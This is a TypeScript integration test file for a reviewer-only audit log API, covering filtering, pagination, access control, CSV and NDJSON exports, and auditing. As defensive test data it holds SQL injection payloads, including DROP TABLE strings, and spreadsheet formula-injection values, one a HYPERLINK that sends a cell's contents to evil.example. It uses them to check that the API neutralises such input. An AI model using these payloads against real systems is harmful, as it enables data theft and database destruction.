/**
 * The reviewer's log queries and exports over real HTTP and a real
 * PostgreSQL: every filter, stable keyset pagination (equal timestamps and
 * microseconds included), SQL metacharacters in every filter, 403 for
 * non-reviewers, NDJSON and CSV exports parsed back (formula injection
 * neutralised), backpressure, and every query and export audited.
 */
import { randomUUID } from 'node:crypto';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { csvRecords, writeExport } from '../../src/audit/export.ts';
import { DECISION_COLUMNS } from '../../src/audit/postgres/query.ts';
import { adminOf, loginAs, personDirect, startTestApp, type Person, type TestApp } from '../support/app.ts';
import { appendLogRows } from '../support/db.ts';

let app: TestApp;
let reviewer: Person;
let scientist: Person;
let admin: Person;

/** A seeded decision record (the columns tests filter on). */
interface Seed {
  id: string;
  at: string;
  principal_id: string;
  sponsor_id: string | null;
  dataset_id: string;
  project_id: string | null;
  effect: 'allow' | 'deny';
  purpose: string;
  rules: string[];
  grant_ids: string[];
  break_glass: boolean;
  request_id?: string | null;
  policy_version?: string;
  reasons?: string[];
  token_jti?: string | null;
  job?: Record<string, unknown> | null;
}
const seeds: Seed[] = [];
const P1 = randomUUID();
const P2 = randomUUID();
const S1 = randomUUID();
const G1 = randomUUID();
const G2 = randomUUID();

async function insertDecision(s: Seed): Promise<void> {
  await appendLogRows(app.db.sql, 'decision_log', [
    {
      id: s.id, at: s.at, request_id: s.request_id ?? null, caller_id: null, principal_id: s.principal_id, sponsor_id: s.sponsor_id, dataset_id: s.dataset_id,
      project_id: s.project_id, action: 'dataset:read', purpose: s.purpose, effect: s.effect, rules: s.rules, reasons: s.reasons ?? [], granted_columns: ['a', 'b'],
      denied_columns: [], obligations: [{ type: 'no-export' }], grant_ids: s.grant_ids, break_glass: s.break_glass, policy_version: s.policy_version ?? 'v1',
      latency_us: 42, input: { dataset: { id: s.dataset_id, classification: 'phi' } }, token_jti: s.token_jti ?? null,
      token_expires_at: s.token_jti ? s.at : null, job: s.job ?? null,
    },
  ]);
  seeds.push(s);
}

/** Ids of the seeds matching `pred`, newest first (at, then id, descending). */
function expected(pred: (s: Seed) => boolean, order: 'asc' | 'desc' = 'desc'): string[] {
  const sorted = seeds.filter(pred).sort((a, b) => (a.at < b.at ? -1 : a.at > b.at ? 1 : a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
  return (order === 'desc' ? sorted.reverse() : sorted).map((s) => s.id);
}

async function get(path: string, who: Person = reviewer) {
  return app.call('GET', path, { token: who.token });
}

/** Follows next_cursor to the end; returns every id in order. */
async function allPages(path: string, limit: number, from: string | null = null): Promise<{ ids: string[]; pages: number }> {
  const ids: string[] = [];
  let cursor: string | null = from;
  let pages = 0;
  do {
    const sep = path.includes('?') ? '&' : '?';
    const r = await get(`${path}${sep}limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.items.length).toBeLessThanOrEqual(limit);
    ids.push(...r.body.items.map((i: { id: string }) => i.id));
    cursor = r.body.next_cursor;
    pages++;
  } while (cursor && pages < 1000);
  return { ids, pages };
}

/** Minimal RFC 4180 parser (quoted fields, doubled quotes, CRLF records). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

beforeAll(async () => {
  app = await startTestApp();
  admin = await adminOf(app);
  reviewer = await personDirect(app, 'rev', [{ role: 'security-reviewer' }]);
  scientist = await personDirect(app, 'sci', [{ role: 'data-scientist' }]);
  // 24 records over three instants (8 with the very same timestamp), two
  // principals, datasets and projects, both effects, rules, grants, break-glass.
  const instants = ['2026-05-01T10:00:00.000Z', '2026-05-02T10:00:00.000Z', '2026-05-03T10:00:00.000Z'];
  for (let i = 0; i < 24; i++) {
    await insertDecision({
      id: randomUUID(),
      at: instants[i % 3]!,
      principal_id: i % 2 ? P1 : P2,
      sponsor_id: i % 4 === 0 ? S1 : null,
      dataset_id: i % 3 === 0 ? 'onc-notes' : 'cardio_images',
      project_id: i % 3 === 0 ? 'onc' : 'cardio',
      effect: i % 5 === 0 ? 'deny' : 'allow',
      purpose: i % 2 ? 'model-training' : 'research',
      rules: i % 5 === 0 ? ['sysadmin-never-reads-phi'] : i % 2 ? ['scientist-own-project-phi', 'extra-rule'] : ['researcher-deidentified'],
      grant_ids: i % 6 === 0 ? [G1] : i % 7 === 0 ? [G1, G2] : [],
      break_glass: i % 8 === 0,
    });
  }
  // Microseconds apart: a millisecond cursor would lose one of these.
  for (const us of ['000001', '000002', '000003']) {
    await insertDecision({ id: randomUUID(), at: `2026-05-04T10:00:00.${us}Z`, principal_id: P1, sponsor_id: null, dataset_id: 'onc-notes', project_id: 'onc', effect: 'allow', purpose: 'research', rules: ['micro'], grant_ids: [], break_glass: false });
  }
  // Cells a spreadsheet would run as formulas.
  await insertDecision({
    id: randomUUID(),
    at: '2026-05-05T10:00:00.000Z',
    principal_id: P2,
    sponsor_id: null,
    dataset_id: '@SUM(1+1)*cmd',
    project_id: '+cmd',
    effect: 'allow',
    purpose: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    rules: ['formula'],
    grant_ids: [],
    break_glass: false,
    request_id: '\tTAB,then "quote"\r\nand newline',
    policy_version: '-2+3',
    reasons: ['=1+1'],
  });
  // Deny reasons (matched as contained text, ignoring case) and tokens issued to jobs.
  const base = { sponsor_id: null, project_id: 'onc', dataset_id: 'onc-notes', purpose: 'model-training', grant_ids: [] as string[], break_glass: false };
  await insertDecision({ ...base, id: randomUUID(), at: '2026-05-06T10:00:00.000Z', principal_id: P1, effect: 'deny', rules: [], reasons: ['purpose model-training is not permitted for dataset onc-notes', 'grant(s) g-1 expired'] });
  await insertDecision({ ...base, id: randomUUID(), at: '2026-05-06T11:00:00.000Z', principal_id: P2, effect: 'deny', rules: [], reasons: ['Principal p-2 is disabled'] });
  await insertDecision({ ...base, id: randomUUID(), at: '2026-05-06T12:00:00.000Z', principal_id: P2, effect: 'allow', rules: ['scientist-own-project-phi'], token_jti: 'jti-7f3a', job: { job_id: 'train-2026-05-06' } });
  await insertDecision({ ...base, id: randomUUID(), at: '2026-05-06T13:00:00.000Z', principal_id: P2, effect: 'allow', rules: ['scientist-own-project-phi'], token_jti: 'jti-9c1e', job: { job_id: 'train-2026-05-06' } });
  await insertDecision({ ...base, id: randomUUID(), at: '2026-05-06T14:00:00.000Z', principal_id: P2, effect: 'allow', rules: ['scientist-own-project-phi'], token_jti: 'jti-0b22', job: { job_id: 'train-other' } });
});
beforeEach(async () => {
  for (const p of [reviewer, scientist, admin]) await loginAs(app, p);
});
afterAll(async () => {
  await app?.close();
});

describe('GET /v1/decision-logs', () => {
  it('answers only reviewers: 401 without a session, 403 for a data scientist and for an administrator', async () => {
    for (const path of ['/v1/decision-logs', '/v1/decision-logs/export', '/v1/audit-events', '/v1/audit-events/export', '/v1/reports/disclosures?dataset=onc-notes', '/v1/reports/access-review']) {
      expect((await app.call('GET', path)).status, path).toBe(401);
      expect((await get(path, scientist)).status, path).toBe(403);
      expect((await get(path, admin)).status, path).toBe(403);
      expect((await get(path)).status, path).toBe(200);
    }
  });

  it('returns every column of a record', async () => {
    const s = seeds[1]!;
    const r = await get(`/v1/decision-logs?decision=${s.id}`);
    expect(r.status).toBe(200);
    expect(r.body.items).toHaveLength(1);
    expect(Object.keys(r.body.items[0]).sort()).toEqual([...DECISION_COLUMNS].sort());
    expect(r.body.items[0]).toMatchObject({ id: s.id, at: s.at, principal_id: s.principal_id, dataset_id: s.dataset_id, effect: s.effect, rules: s.rules, granted_columns: ['a', 'b'], latency_us: 42, obligations: [{ type: 'no-export' }], input: { dataset: { id: s.dataset_id } } });
  });

  const cases: [string, string, (s: Seed) => boolean][] = [
    ['principal', `principal=${P1}`, (s) => s.principal_id === P1],
    ['sponsor', `sponsor=${S1}`, (s) => s.sponsor_id === S1],
    ['dataset', 'dataset=onc-notes', (s) => s.dataset_id === 'onc-notes'],
    ['project', 'project=cardio', (s) => s.project_id === 'cardio'],
    ['effect', 'effect=deny', (s) => s.effect === 'deny'],
    ['purpose', 'purpose=research', (s) => s.purpose === 'research'],
    ['rule (array contains)', 'rule=extra-rule', (s) => s.rules.includes('extra-rule')],
    ['grant (array contains)', `grant=${G2}`, (s) => s.grant_ids.includes(G2)],
    ['grant in any position', `grant=${G1}`, (s) => s.grant_ids.includes(G1)],
    ['break_glass=true', 'break_glass=true', (s) => s.break_glass],
    ['break_glass=false', 'break_glass=false', (s) => !s.break_glass],
    ['from (inclusive)', 'from=2026-05-02T10:00:00Z', (s) => s.at >= '2026-05-02T10:00:00.000Z'],
    ['to (exclusive)', 'to=2026-05-02T10:00:00Z', (s) => s.at < '2026-05-02T10:00:00.000Z'],
    ['time range with offset', 'from=2026-05-02T12:00:00%2B02:00&to=2026-05-03T12:00:00%2B02:00', (s) => s.at >= '2026-05-02T10:00:00.000Z' && s.at < '2026-05-03T10:00:00.000Z'],
    ['deny reason (contained text, any case)', 'reason=NOT%20PERMITTED', (s) => (s.reasons ?? []).some((r) => r.toLowerCase().includes('not permitted'))],
    ['deny reason in a later position', 'reason=expired', (s) => (s.reasons ?? []).some((r) => r.includes('expired'))],
    ['job by its token (jti)', 'job=jti-9c1e', (s) => s.token_jti === 'jti-9c1e'],
    ['job by the job_id its token was requested for', 'job=train-2026-05-06', (s) => s.job?.job_id === 'train-2026-05-06'],
    ['combined', `principal=${P1}&effect=allow&dataset=cardio_images`, (s) => s.principal_id === P1 && s.effect === 'allow' && s.dataset_id === 'cardio_images'],
  ];
  for (const [name, qs, pred] of cases) {
    it(`filters by ${name}`, async () => {
      const want = expected(pred);
      expect(want.length).toBeGreaterThan(0);
      expect(want.length).toBeLessThan(seeds.length);
      const r = await get(`/v1/decision-logs?${qs}&limit=1000`);
      expect(r.status, JSON.stringify(r.body)).toBe(200);
      expect(r.body.items.map((i: { id: string }) => i.id)).toEqual(want);
    });
  }

  it('finds one decision by id', async () => {
    const s = seeds[5]!;
    const r = await get(`/v1/decision-logs?decision=${s.id}`);
    expect(r.body.items.map((i: { id: string }) => i.id)).toEqual([s.id]);
  });

  it('reads one decision at /v1/decision-logs/{id}, as an audited query; 404 for an unknown id', async () => {
    const s = seeds.find((x) => x.token_jti)!;
    const r = await get(`/v1/decision-logs/${s.id}`);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    const listed = await get(`/v1/decision-logs?decision=${s.id}`);
    expect(r.body).toEqual(listed.body.items[0]);
    expect(r.body).toMatchObject({ id: s.id, token_jti: s.token_jti, job: s.job });
    const missing = randomUUID();
    expect((await get(`/v1/decision-logs/${missing}`)).status).toBe(404);
    expect((await get('/v1/decision-logs/not-a-uuid')).status).toBe(400);
    // The export is still the export, not an id.
    expect((await get('/v1/decision-logs/export?format=csv')).status).toBe(200);
    const events = await app.db.sql`SELECT details FROM audit_events WHERE type = 'audit.query' AND actor_id = ${reviewer.id} AND details->'filters'->>'decision' IN (${s.id}, ${missing}) AND details->>'limit' = '1'`;
    expect(events.map((e) => e.details.rows).sort()).toEqual([0, 1]);
    // Reviewers only, as for the list.
    expect((await get(`/v1/decision-logs/${s.id}`, scientist)).status).toBe(403);
    expect((await get(`/v1/decision-logs/${s.id}`, admin)).status).toBe(403);
  });

  it('pages newest first by default and oldest first on request: complete, no duplicates, equal timestamps and microseconds included', async () => {
    for (const [qs, order] of [['', 'desc'], ['order=asc', 'asc'], [`principal=${P1}`, 'desc'], [`principal=${P1}&order=asc`, 'asc']] as const) {
      const want = expected((s) => !qs.includes('principal') || s.principal_id === P1, order);
      for (const limit of [1, 3, 7, 1000]) {
        const { ids, pages } = await allPages(`/v1/decision-logs${qs ? `?${qs}` : ''}`, limit);
        expect(ids, `${qs} limit ${limit}`).toEqual(want);
        expect(new Set(ids).size).toBe(ids.length);
        expect(pages).toBe(Math.max(1, Math.ceil(want.length / limit)));
      }
    }
  });

  it('keeps pages stable while newer records arrive', async () => {
    const first = await get('/v1/decision-logs?limit=5&dataset=onc-notes');
    const want = expected((s) => s.dataset_id === 'onc-notes');
    const newer: Seed = { id: randomUUID(), at: '2026-05-30T00:00:00.000Z', principal_id: P1, sponsor_id: null, dataset_id: 'onc-notes', project_id: 'onc', effect: 'allow', purpose: 'research', rules: [], grant_ids: [], break_glass: false };
    // The log is append-only: the newer record stays (and stays among the seeds the other tests expect).
    await insertDecision(newer);
    const rest = await allPages('/v1/decision-logs?dataset=onc-notes', 5, first.body.next_cursor);
    expect([...first.body.items.map((i: { id: string }) => i.id), ...rest.ids]).toEqual(want);
  });

  it('refuses a forged cursor, a cursor of the other order, limits out of range and unknown or repeated parameters', async () => {
    const page = await get('/v1/decision-logs?limit=2');
    expect((await get(`/v1/decision-logs?order=asc&cursor=${page.body.next_cursor}`)).status).toBe(400);
    const forged = Buffer.from(JSON.stringify(["2026-05-01T00:00:00.000000Z' OR 1=1 --", P1, 'desc'])).toString('base64url');
    expect((await get(`/v1/decision-logs?cursor=${forged}`)).status).toBe(400);
    expect((await get('/v1/decision-logs?cursor=%27%20OR%201%3D1')).status).toBe(400);
    for (const qs of ['limit=0', 'limit=1001', 'limit=abc', 'colour=red', `principal=${P1}&principal=${P2}`, 'effect=maybe', 'from=yesterday']) {
      expect((await get(`/v1/decision-logs?${qs}`)).status, qs).toBe(400);
    }
    expect((await get('/v1/decision-logs?limit=1000')).status).toBe(200);
  });
});

const PAYLOADS = ["' OR 1=1 --", "' OR '1'='1", '%', '_', '\\', '\\%', '"; DROP TABLE decision_log; --', "'; DROP TABLE audit_events; --", '*', '.*', '$1', 'onc-notes%', 'onc%', "onc-notes' --"];

describe('SQL metacharacters in every filter', () => {
  const decisionFilters = ['principal', 'sponsor', 'dataset', 'project', 'effect', 'purpose', 'rule', 'grant', 'break_glass', 'decision', 'reason', 'job', 'from', 'to', 'order', 'cursor', 'limit'];
  const auditFilters = ['actor', 'subject', 'type', 'outcome', 'from', 'to', 'order', 'cursor', 'limit'];

  it('return no rows (or a 400) from the decision log and its export, and the tables survive', async () => {
    const before = (await app.db.sql`SELECT count(*)::int AS n FROM decision_log`)[0]!.n;
    for (const f of decisionFilters) {
      for (const p of PAYLOADS) {
        const q = `${f}=${encodeURIComponent(p)}`;
        const r = await get(`/v1/decision-logs?${q}`);
        expect([200, 400], `${q}: ${r.status}`).toContain(r.status);
        if (r.status === 200) expect(r.body.items, q).toEqual([]);
        const e = await get(`/v1/decision-logs/export?${q}`);
        expect([200, 400], `${q}: ${e.status}`).toContain(e.status);
        if (e.status === 200) expect(e.body ?? '', q).toBe('');
      }
    }
    // And the same payload after a real value: still nothing extra.
    for (const p of PAYLOADS) {
      const r = await get(`/v1/decision-logs?dataset=${encodeURIComponent(`onc-notes${p}`)}&purpose=${encodeURIComponent(`research${p}`)}`);
      expect(r.status).toBe(200);
      expect(r.body.items).toEqual([]);
    }
    expect((await app.db.sql`SELECT count(*)::int AS n FROM decision_log`)[0]!.n).toBe(before);
    expect((await get('/v1/decision-logs?dataset=onc-notes')).body.items.length).toBe(expected((s) => s.dataset_id === 'onc-notes').length);
  });

  it('return no rows (or a 400) from the audit events and their export, and the tables survive', async () => {
    for (const f of auditFilters) {
      for (const p of PAYLOADS) {
        const q = `${f}=${encodeURIComponent(p)}`;
        const r = await get(`/v1/audit-events?${q}`);
        expect([200, 400], `${q}: ${r.status}`).toContain(r.status);
        if (r.status === 200) expect(r.body.items, q).toEqual([]);
        const e = await get(`/v1/audit-events/export?${q}`);
        expect([200, 400], `${q}: ${e.status}`).toContain(e.status);
        if (e.status === 200) expect(e.body ?? '', q).toBe('');
      }
    }
    for (const p of PAYLOADS) {
      for (const path of [`/v1/reports/disclosures?dataset=${encodeURIComponent(p)}`, `/v1/reports/disclosures?dataset=${encodeURIComponent(p)}&format=csv`, `/v1/reports/access-review?dataset=${encodeURIComponent(p)}`]) {
        const r = await get(path);
        expect([200, 400, 404], `${path}: ${r.status}`).toContain(r.status);
        if (r.status === 200 && typeof r.body === 'object') expect(r.body.items).toEqual([]);
        if (r.status === 200 && typeof r.body === 'string') expect(parseCsv(r.body)).toHaveLength(1);
      }
    }
    const [t] = await app.db.sql`SELECT to_regclass('decision_log') AS d, to_regclass('audit_events') AS a`;
    expect(t).toEqual({ d: 'decision_log', a: 'audit_events' });
  });
});

describe('exports', () => {
  it('streams NDJSON: one record per line, exactly the filtered records in order', async () => {
    const res = await fetch(`${app.url}/v1/decision-logs/export?format=ndjson&principal=${P1}&order=asc`, { headers: { authorization: `Bearer ${reviewer.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="decision-log-.*\.ndjson"$/);
    const text = await res.text();
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.id)).toEqual(expected((s) => s.principal_id === P1, 'asc'));
    expect(Object.keys(lines[0]).sort()).toEqual([...DECISION_COLUMNS].sort());
    // The same rows as the query API gives.
    const q = await get(`/v1/decision-logs?principal=${P1}&order=asc&limit=1000`);
    expect(lines).toEqual(q.body.items);
  });

  it('streams CSV per RFC 4180 with a header row; arrays and objects as JSON; formula cells neutralised', async () => {
    const res = await fetch(`${app.url}/v1/decision-logs/export?format=csv`, { headers: { authorization: `Bearer ${reviewer.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual([...DECISION_COLUMNS]);
    expect(rows.length - 1).toBe(seeds.length);
    const col = (name: string) => DECISION_COLUMNS.indexOf(name as never);
    expect(rows.slice(1).map((r) => r[col('id')])).toEqual(expected(() => true));
    const evil = rows.find((r) => r[col('rules')] === '["formula"]')!;
    expect(evil[col('purpose')]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(evil[col('dataset_id')]).toBe("'@SUM(1+1)*cmd");
    expect(evil[col('project_id')]).toBe("'+cmd");
    expect(evil[col('policy_version')]).toBe("'-2+3");
    expect(evil[col('request_id')]).toBe(`'\tTAB,then "quote"\r\nand newline`);
    expect(evil[col('reasons')]).toBe('["=1+1"]');
    expect(evil[col('break_glass')]).toBe('false');
    expect(evil[col('sponsor_id')]).toBe('');
    const plain = rows.find((r) => r[col('id')] === seeds[1]!.id)!;
    expect(JSON.parse(plain[col('obligations')]!)).toEqual([{ type: 'no-export' }]);
    expect(JSON.parse(plain[col('input')]!)).toEqual({ dataset: { id: seeds[1]!.dataset_id, classification: 'phi' } });
    // No cell of the whole file starts with a formula character.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralises every formula prefix and quotes per RFC 4180', () => {
    const csvCell = (v: unknown) => csvRecords([{ c: v }], ['c']).slice(0, -2);
    expect(csvCell('=1')).toBe("'=1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(['=x'])).toBe('"[""=x""]"');
    expect(csvCell('plain')).toBe('plain');
    // Whatever the type, on the cell's text: a negative number too (a spreadsheet evaluates "-1+2").
    expect(csvCell(-1)).toBe("'-1");
    expect(csvCell(12n)).toBe('12');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(new Date(Date.UTC(2026, 0, 2)))).toBe('2026-01-02T00:00:00.000Z');
    expect(csvCell({ a: '=x, "y"' })).toBe(String.raw`"{""a"":""=x, \""y\""""}"`);
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('writes records with CRLF, the columns in order, and a header even with no rows', async () => {
    expect(csvRecords([{ b: 2, a: '=1', extra: 'x' }, { a: 'p' }], ['a', 'b'])).toBe("'=1,2\r\np,\r\n");
    expect(csvRecords([], ['id', '@at'], true)).toBe("id,'@at\r\n");
    const chunks: string[] = [];
    const out = new Writable({
      write(chunk: Buffer, _enc, cb) {
        chunks.push(chunk.toString());
        cb();
      },
    });
    async function* none() {}
    expect(await writeExport({ format: 'csv', columns: ['id', 'at'], batches: none(), out })).toEqual({ rows: 0, complete: true });
    expect(chunks.join('')).toBe('id,at\r\n');
  });

  it('exports audit events as CSV and NDJSON with their filters', async () => {
    const ndjson = await fetch(`${app.url}/v1/audit-events/export?actor=${reviewer.id}&type=audit.query`, { headers: { authorization: `Bearer ${reviewer.token}` } });
    const lines = (await ndjson.text()).trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines) expect(l).toMatchObject({ actor_id: reviewer.id, type: 'audit.query' });
    const csv = await fetch(`${app.url}/v1/audit-events/export?format=csv&actor=${reviewer.id}&type=audit.query`, { headers: { authorization: `Bearer ${reviewer.token}` } });
    const rows = parseCsv(await csv.text());
    expect(rows[0]).toEqual(['id', 'at', 'type', 'outcome', 'actor_id', 'subject_id', 'source_ip', 'request_id', 'details']);
    expect(rows.length - 1).toBeGreaterThanOrEqual(lines.length);
  });

  it('waits for drain: the source is read no more than a batch or two ahead of a slow destination', async () => {
    let produced = 0;
    let written = 0;
    let maxAhead = 0;
    async function* batches() {
      for (let b = 0; b < 50; b++) {
        produced += 100;
        maxAhead = Math.max(maxAhead, produced - written);
        yield Array.from({ length: 100 }, (_, i) => ({ id: `${b}-${i}`, payload: 'x'.repeat(200) }));
      }
    }
    const out = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _enc, cb) {
        setTimeout(() => {
          written += chunk.toString().split('\n').length - 1;
          cb();
        }, 2);
      },
    });
    const r = await writeExport({ format: 'ndjson', columns: ['id', 'payload'], batches: batches(), out });
    expect(r).toEqual({ rows: 5000, complete: true });
    expect(maxAhead).toBeLessThanOrEqual(200);
  });

  it('stops reading when the destination goes away', async () => {
    let produced = 0;
    async function* batches() {
      for (let b = 0; b < 1000; b++) {
        produced++;
        yield [{ id: String(b) }];
      }
    }
    const out = new Writable({
      highWaterMark: 1,
      write(_chunk, _enc, cb) {
        setTimeout(cb, 1);
      },
    });
    setTimeout(() => out.destroy(), 20);
    const r = await writeExport({ format: 'ndjson', columns: ['id'], batches: batches(), out });
    expect(r.complete).toBe(false);
    expect(produced).toBeLessThan(1000);
  });
});

describe('audit events', () => {
  it('filters by actor, subject, type, outcome and time', async () => {
    const sql = app.db.sql;
    const actor = randomUUID();
    const subject = randomUUID();
    const rows = [
      { id: randomUUID(), at: '2026-04-01T00:00:00.000Z', type: 't.one', outcome: 'success', actor_id: actor, subject_id: subject },
      { id: randomUUID(), at: '2026-04-02T00:00:00.000Z', type: 't.two', outcome: 'failure', actor_id: actor, subject_id: null },
      { id: randomUUID(), at: '2026-04-03T00:00:00.000Z', type: 't.one', outcome: 'info', actor_id: null, subject_id: subject },
    ];
    await appendLogRows(sql, 'audit_events', rows.map((e) => ({ ...e, details: {} })));
    const ids = async (qs: string) => {
      const r = await get(`/v1/audit-events?${qs}&to=2026-04-30T00:00:00Z`);
      expect(r.status, JSON.stringify(r.body)).toBe(200);
      return r.body.items.map((i: { id: string }) => i.id);
    };
    expect(await ids(`actor=${actor}`)).toEqual([rows[1]!.id, rows[0]!.id]);
    expect(await ids(`subject=${subject}`)).toEqual([rows[2]!.id, rows[0]!.id]);
    expect(await ids('type=t.one')).toEqual([rows[2]!.id, rows[0]!.id]);
    expect(await ids('type=t.one&order=asc')).toEqual([rows[0]!.id, rows[2]!.id]);
    expect(await ids('outcome=failure&type=t.two')).toEqual([rows[1]!.id]);
    expect(await ids('from=2026-04-02T00:00:00Z')).toEqual([rows[2]!.id, rows[1]!.id]);
    expect(await ids(`actor=${actor}&outcome=info`)).toEqual([]);
    const page = await get(`/v1/audit-events?subject=${subject}&limit=1`);
    expect(page.body.items.map((i: { id: string }) => i.id)).toEqual([rows[2]!.id]);
    const next = await get(`/v1/audit-events?subject=${subject}&limit=1&cursor=${page.body.next_cursor}`);
    expect(next.body.items.map((i: { id: string }) => i.id)).toEqual([rows[0]!.id]);
    expect(next.body.next_cursor).toBeNull();
  });

  it('records every query and export: who looked at what, with the filters and the row count', async () => {
    const marker = randomUUID();
    await get(`/v1/decision-logs?principal=${P1}&effect=allow&limit=3&sponsor=${marker}`);
    const q = await get(`/v1/decision-logs?principal=${P1}&limit=4`);
    await get(`/v1/decision-logs?principal=${P1}&limit=4&cursor=${q.body.next_cursor}`);
    await (await fetch(`${app.url}/v1/decision-logs/export?format=csv&dataset=onc-notes`, { headers: { authorization: `Bearer ${reviewer.token}` } })).text();
    const events = await app.db.sql`SELECT type, outcome, actor_id, request_id, details FROM audit_events WHERE actor_id = ${reviewer.id} AND type LIKE 'audit.%' ORDER BY at, id`;
    const mine = events.filter((e: any) => JSON.stringify(e.details).includes(P1) || JSON.stringify(e.details).includes('onc-notes'));
    expect(mine.find((e: any) => e.details.filters?.sponsor === marker)).toMatchObject({
      type: 'audit.query',
      outcome: 'success',
      details: { log: 'decision_log', filters: { principal: P1, effect: 'allow', sponsor: marker, order: 'desc' }, limit: 3, page: 'first', rows: 0 },
    });
    const queries = mine.filter((e: any) => e.type === 'audit.query' && !e.details.filters.sponsor && e.details.filters.principal === P1 && e.details.limit === 4);
    // The test clock stands still, so both events share a timestamp: compare without order.
    expect(queries.map((e: any) => `${e.details.page}:${e.details.rows}`).sort()).toEqual(['first:4', 'next:4']);
    const started = mine.filter((e: any) => e.type === 'audit.export').at(-1);
    expect(started).toMatchObject({ outcome: 'info', details: { log: 'decision_log', format: 'csv', filters: { dataset: 'onc-notes' } } });
    const done = mine.filter((e: any) => e.type === 'audit.export.completed').at(-1);
    expect(done).toMatchObject({ outcome: 'success', details: { log: 'decision_log', format: 'csv', rows: expected((s) => s.dataset_id === 'onc-notes').length, complete: true } });
    expect(started!.request_id).toBe(done!.request_id);
    expect(started!.request_id).toBeTruthy();
  });

  it('refuses to export when the export cannot be recorded first (fail closed)', async () => {
    await app.db.sql`ALTER TABLE audit_events ADD CONSTRAINT no_exports CHECK (type <> 'audit.export') NOT VALID`;
    try {
      const r = await get('/v1/decision-logs/export?format=ndjson');
      expect(r.status).toBeGreaterThanOrEqual(500);
      expect(typeof r.body === 'string' ? r.body : JSON.stringify(r.body)).not.toContain(seeds[0]!.id);
    } finally {
      await app.db.sql`ALTER TABLE audit_events DROP CONSTRAINT no_exports`;
    }
  });
});
